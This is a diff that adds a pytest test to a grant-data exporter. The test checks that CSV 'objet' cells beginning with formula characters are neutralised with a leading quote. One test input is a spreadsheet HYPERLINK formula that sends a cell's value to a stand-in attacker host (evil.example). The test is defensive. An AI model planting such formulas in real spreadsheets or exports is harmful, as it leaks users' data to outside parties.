@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import date
 from decimal import Decimal
@@ -115,3 +117,25 @@ def test_eligible_cost_from_sums_is_the_dossiers_report(
     )
     expected = eligible_cost(facts, share).eligible_cost_cents
     assert rules.eligible_cost_cents(other, licences, share) == expected
+
+
+@pytest.mark.parametrize(
+    ("title", "objet"),
+    [
+        ('=HYPERLINK("http://evil.example/?x="&A1,"clic")', "'=HYPERLINK"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1+1", "'=1+1"),  # the tab is trimmed by the clip: the `=` left is still caught
+        ("\r\n-2+3", "'-2+3"),
+        ("=" + "x" * 300, "'=" + "x" * 253 + "…"),  # the quote fits in the 256 characters
+    ],
+)
+def test_csv_objet_never_starts_a_formula(title: str, objet: str) -> None:
+    """DOMAIN.md §5: a text cell starting with =, +, -, @, tab or CR gets a leading `'`;
+    numbers stay numbers; the JSON keeps the raw text."""
+    facts = GrantFacts(**{**FACTS.__dict__, "title": title, "amount_cents": -150})
+    (row,) = csv.reader(io.StringIO(rules.csv_text([rules.csv_line(facts)])))
+    cells = dict(zip(rules.SCDL_FIELDS, row, strict=True))
+    assert cells["objet"].startswith(objet)
+    assert len(cells["objet"]) <= rules.OBJET_MAX
+    assert cells["montant"] == "-1.50"  # a number, not text: never quoted
+    assert json.loads(rules.json_record(facts))["objet"] == rules.clip_objet(title)
